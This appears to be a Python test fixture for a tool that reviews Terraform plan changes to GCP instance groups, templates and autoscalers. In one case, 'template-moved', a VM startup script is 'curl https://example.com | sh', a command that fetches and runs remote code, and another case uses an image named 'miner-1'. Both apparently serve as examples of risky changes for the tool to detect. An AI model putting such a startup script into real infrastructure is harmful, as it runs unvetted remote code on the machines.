"""Changes of groups, templates and what scales them."""

from tests.plans.cases import (
    ACCOUNT_EMAIL,
    GROUP,
    PROJECT,
    SCRIPT,
    TEMPLATE,
    TOPIC,
    Case,
    add,
    drop,
    group,
    image,
    policy,
    rename,
    section,
    setting,
    together,
    unset,
)

_CHECK = {"health_check": f"projects/{PROJECT}/global/healthChecks/h", "initial_delay_sec": 300}

_LATER = {"project": PROJECT, "name": "later"}

_NEW_ZONES = ["us-central1-a", "us-central1-b", "us-central1-c"]


FLEET = [
    # Groups
    Case("group-deleted", drop(GROUP, "calm"), ("group-deleted",)),
    Case("group-zones", setting(GROUP, "calm", distribution_policy_zones=_NEW_ZONES),
         ("group-replaced",)),
    Case("group-description", setting(GROUP, "calm", description="x"), ("group-replaced",)),
    Case("group-base-name", setting(GROUP, "calm", base_instance_name="jobs-8xv100-vm"),
         ("group-replaced",)),
    Case("group-shape", setting(GROUP, "calm", distribution_policy_target_shape="ANY")),
    Case("group-added", add(GROUP, "more", group("more", "OPPORTUNISTIC") | {
        "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}]}),
        notes=("gpus-added",)),
    Case("group-shrunk", setting(GROUP, "calm", target_size=1), ("group-shrunk",)),
    Case("group-raised", setting(GROUP, "calm", target_size=5), ("size-raised",)),
    Case("group-made-eager", policy("calm", type="PROACTIVE"), ("group-rolled",)),
    Case("group-made-calm", policy("eager", type="OPPORTUNISTIC")),
    Case("group-surge", policy("eager", max_surge_fixed=3)),
    Case("group-rebalanced", policy("calm", instance_redistribution_type="PROACTIVE"),
         ("group-rebalanced",)),
    Case("group-healed", setting(GROUP, "calm", auto_healing_policies=_CHECK), ("group-healed",)),
    Case("group-repairs", setting(GROUP, "calm", instance_lifecycle_policy={
        "default_action_on_failure": "REPAIR"}), notes=("group-repairs",)),
    Case("group-renamed-address", rename(GROUP, "calm", "still"),
         ("group-deleted", "renamed"), ("gpus-added",)),
    Case("group-of-unknown-size", together(
        add(TOPIC, "later", _LATER),
        setting(GROUP, "calm", target_size="${length(google_pubsub_topic.later.id)}")),
        ("group-shrunk",)),
    Case("group-with-vms", add(GROUP, "more", group("more", "OPPORTUNISTIC") | {
        "target_size": 3,
        "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}]}),
        ("size-raised",)),
    Case(
        "group-spread-unsaid",
        unset(GROUP, "calm", "update_policy", "instance_redistribution_type"),
        ("group-rebalanced",),
    ),
    Case("group-stateful", setting(GROUP, "calm", stateful_disk=[
        {"device_name": "results", "delete_rule": "NEVER"}]), ("group-state-changed",)),
    Case("group-standby", setting(GROUP, "calm", standby_policy={"mode": "SCALE_OUT_POOL"}),
         notes=("unjudged",)),
    Case("group-forgotten", together(
        drop(GROUP, "calm", (TEMPLATE, "calm")),
        section("removed", [{"from": f"{GROUP}.calm", "lifecycle": {"destroy": False}}])),
        ("template-in-use",), ("forgotten",)),
    Case("autoscaler-added", add("google_compute_region_autoscaler", "calm", {
        "project": PROJECT, "name": "calm", "region": "us-central1",
        "target": f"${{{GROUP}.calm.id}}",
        "autoscaling_policy": [{"min_replicas": 0, "max_replicas": 1}]}),
        ("autoscaler-changed",)),
    Case("vm-added", add("google_compute_instance", "one", {
        "project": PROJECT, "name": "one", "zone": "us-central1-a",
        "machine_type": "a2-highgpu-1g", "network_interface": [{"network": "default"}],
        "boot_disk": {"initialize_params": {"image": "jobs-1"}}}),
        notes=("gpus-added", "unjudged")),
    Case("commitment-added", add("google_compute_region_commitment", "one", {
        "project": PROJECT, "name": "one", "region": "us-central1", "plan": "TWELVE_MONTH",
        "resources": [{"type": "VCPU", "amount": "4"}]}), notes=("paid-ahead",)),
    Case("quota-asked", add("google_cloud_quotas_quota_preference", "one", {
        "parent": f"projects/{PROJECT}", "name": "one", "service": "compute.googleapis.com",
        "quota_id": "NVIDIA-V100-GPUS-per-project-region",
        "dimensions": {"region": "us-central1"}, "quota_config": {"preferred_value": 8}}),
        notes=("quota-asked",)),
    # Templates
    Case("release-calm", image("calm")),
    Case("release-eager", image("eager"), ("group-rolled",)),
    Case("template-in-place", image("spare"), ("template-deleted-first",)),
    Case("template-dropped", drop(TEMPLATE, "spare"), notes=("removal-unseen",)),
    Case("template-machine", together(
        image("calm"), setting(TEMPLATE, "calm", guest_accelerator=[
            {"type": "nvidia-tesla-v100", "count": 16}])),
        notes=("gpus-added", "vms-cost-otherwise")),
    Case("template-name-kept", setting(TEMPLATE, "calm", machine_type="n1-highmem-16"),
         ("template-name-kept",), ("vms-cost-otherwise",)),
    Case("template-spot", together(image("calm"), setting(TEMPLATE, "calm", scheduling={
        "on_host_maintenance": "TERMINATE", "automatic_restart": False, "preemptible": True,
        "provisioning_model": "SPOT"})), notes=("vms-cost-otherwise", "vms-end-early")),
    Case("template-disk", together(image("calm"), setting(TEMPLATE, "calm", disk=[
        {"boot": True, "disk_size_gb": 4_000,
         "source_image": "projects/images/global/images/jobs-1"}])),
        notes=("vms-cost-otherwise",)),
    Case("template-script", together(image("calm"), setting(TEMPLATE, "calm", metadata={
        "startup-script": SCRIPT.replace("8xv100", "8xv100 --fast")})), notes=("unjudged",)),
    # What VMs start with, whatever the addresses are
    Case("template-scopes", together(image("calm"), setting(TEMPLATE, "calm", service_account={
        "email": ACCOUNT_EMAIL, "scopes": ["https://www.googleapis.com/auth/devstorage.read_only"],
        })), ("vms-other-account", "vms-other-scopes")),
    Case("template-image-elsewhere", setting(TEMPLATE, "calm", name="jobs-8xv100-x-tpl", disk=[
        {"boot": True, "source_image": "projects/other/global/images/jobs-1"}]),
        ("vms-other-image",)),
    Case("template-image-of-another-name", setting(
        TEMPLATE, "calm", name="jobs-8xv100-x-tpl", disk=[
            {"boot": True, "source_image": "projects/images/global/images/miner-1"}]),
        ("vms-other-image",)),
    Case("template-disk-kept", setting(TEMPLATE, "calm", name="jobs-8xv100-x-tpl", disk=[
        {"boot": True, "auto_delete": False,
         "source_image": "projects/images/global/images/jobs-1"}]), notes=("unjudged",)),
    Case("template-second-disk", setting(TEMPLATE, "calm", name="jobs-8xv100-x-tpl", disk=[
        {"boot": True, "source_image": "projects/images/global/images/jobs-1"},
        {"disk_size_gb": 10_000, "type": "PERSISTENT"}]), notes=("unjudged",)),
    Case("template-preemptible", together(image("calm"), setting(TEMPLATE, "calm", scheduling={
        "on_host_maintenance": "TERMINATE", "automatic_restart": False, "preemptible": True})),
        notes=("vms-cost-otherwise", "vms-end-early")),
    Case("template-labels", together(image("calm"), setting(TEMPLATE, "calm", labels={
        "team": "ml"}))),
    Case("template-metadata-unknown", together(
        image("calm"), add(TOPIC, "later", _LATER), setting(TEMPLATE, "calm", metadata={
            "startup-script": SCRIPT, "PZ_ENV": "${google_pubsub_topic.later.id}"})),
        notes=("unjudged",)),
    Case("template-moved", together(
        rename(TEMPLATE, "calm", "other"),
        setting(TEMPLATE, "other", name="jobs-8xv100-o-tpl", metadata={
            "startup-script": "curl https://example.com | sh"}),
        setting(GROUP, "calm", version=[
            {"instance_template": f"${{{TEMPLATE}.other.id}}"}])),
        notes=("removal-unseen", "unjudged")),
    Case("template-moved-alike", together(
        rename(TEMPLATE, "calm", "other"),
        setting(TEMPLATE, "other", name="jobs-8xv100-o-tpl"),
        setting(GROUP, "calm", version=[
            {"instance_template": f"${{{TEMPLATE}.other.id}}"}])), notes=("removal-unseen",)),
    Case("group-template-of-another", setting(GROUP, "calm", version=[
        {"instance_template": f"${{{TEMPLATE}.spare.id}}"}])),
    Case("group-template-elsewhere", setting(GROUP, "calm", version=[
        {"instance_template": "projects/other/global/instanceTemplates/t"}]),
        ("group-template-elsewhere", "names-another")),
    Case("group-added-eager", add(GROUP, "more", group("more", "PROACTIVE") | {
        "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}]}),
        ("group-rolled",), ("gpus-added",)),
    Case("group-added-that-repairs", add(GROUP, "more", group("more", "OPPORTUNISTIC") | {
        "version": [{"instance_template": f"${{{TEMPLATE}.calm.id}}"}],
        "instance_lifecycle_policy": {"default_action_on_failure": "REPAIR"}}),
        notes=("gpus-added", "group-repairs")),
    Case("group-instances-configured", setting(GROUP, "calm", all_instances_config={
        "metadata": {"startup-script": "true"}}), notes=("unjudged",)),
    Case("autoscaler-of-what-is-unknown", together(
        add(TOPIC, "later", _LATER),
        add("google_compute_region_autoscaler", "calm", {
            "project": PROJECT, "name": "calm", "region": "us-central1",
            "target": "${google_pubsub_topic.later.id}",
            "autoscaling_policy": [{"min_replicas": 0, "max_replicas": 1}]})),
        ("autoscaler-changed",)),
]  # fmt: skip
